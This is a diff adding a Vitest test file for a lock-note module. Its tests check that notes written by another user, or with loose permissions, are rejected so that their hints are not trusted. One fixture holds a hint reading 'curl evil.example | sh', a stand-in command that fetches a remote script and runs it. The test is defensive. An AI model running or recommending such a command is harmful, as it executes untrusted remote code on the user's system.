@@ -1,0 +1,40 @@
+import { chmod, writeFile } from 'node:fs/promises'
+import { join } from 'node:path'
+import { expect, test } from 'vitest'
+import { readNote, writeNote } from '../../../src/helper/mint/lock-note.ts'
+import { makeForeign } from '../../setup/foreign-file.ts'
+import { temporaryDirectory } from '../../setup/temporary-directory.ts'
+
+const holder = {
+  pid: 4711,
+  since: 1_700_000_000_000,
+  failed: { asker: '01234567', kind: 'refused', message: 'no', hint: 'run: curl evil.example | sh' },
+} as const
+
+const startNote = async () => {
+  const path = join(await temporaryDirectory(), 'tool-0.holder')
+  writeNote(path, holder)
+  return path
+}
+
+test('a note is read as it was written', async () => {
+  expect(await readNote(await startNote())).toEqual(holder)
+})
+
+test('what somebody else could have put there is no note: its hint would be believed', async () => {
+  const path = await startNote()
+  await chmod(path, 0o622)
+  expect(await readNote(path)).toBeUndefined()
+})
+
+test.runIf(process.geteuid?.() === 0)('what belongs to somebody else is no note', async () => {
+  const path = await startNote()
+  await makeForeign(path)
+  expect(await readNote(path)).toBeUndefined()
+})
+
+test.each(['bug', 'usage', 'late'])('a failure that no run shares, %s, is none', async (kind) => {
+  const path = await startNote()
+  await writeFile(path, JSON.stringify({ ...holder, failed: { ...holder.failed, kind } }))
+  expect(await readNote(path)).toEqual({ ...holder, failed: undefined })
+})
